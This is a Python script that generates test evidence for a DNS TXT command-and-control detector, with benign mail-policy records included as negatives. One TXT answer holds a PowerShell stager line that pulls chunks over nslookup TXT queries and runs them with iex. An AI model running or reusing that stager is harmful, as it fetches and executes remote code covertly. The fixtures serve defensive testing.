"""Makes the evidence of these cases.

`python -m tests.cases.c2_dns_commands.make` from the root of the project writes it anew.
"""

from __future__ import annotations

import base64
import random
from pathlib import Path

from tests.cases.evidence import write

HOST = "10.1.0.17"


def make(root: Path) -> None:
    """Write all evidence under ``root``."""
    write(root / "script_in_pieces", "dns_activity", [
        text(1.0, "a.ns.letterbox.example", "$s='';$i=1;while($i){$s+=(nslookup -q=txt $i)};iex $s")
    ] + [text(2.0 + n, f"a.{n}.ns.letterbox.example", coded(n)) for n in range(1, 5)])  # fmt: skip
    write(root / "one_coded_text", "dns_activity", [text(1.0, "cfg.program.example", coded(9))])
    write(root / "policies_of_mail", "dns_activity", [
        text(1.0, "company.example", "v=spf1 include:mail.example -all"),
        text(2.0, "s1._domainkey.company.example", "k=rsa; p=" + coded(11)),
        text(3.0, "company.example", "vendor-domain-verification=" + coded(12)[:43]),
    ])  # fmt: skip


def coded(seed: int) -> str:
    """A hundred and sixty characters of base64."""
    return base64.b64encode(random.Random(seed).randbytes(120)).decode()


def text(t: float, name: str, content: str) -> dict[str, object]:
    """A TXT answer."""
    return {"time": t, "src_ip": HOST, "dst_ip": "10.1.0.2", "query": name, "query_type": "TXT",
            "is_response": True, "rcode": "NOERROR", "answers": [content], "answer_types": ["TXT"],
            "answer_bytes": len(content) + 1}  # fmt: skip


if __name__ == "__main__":
    make(Path(__file__).parent)
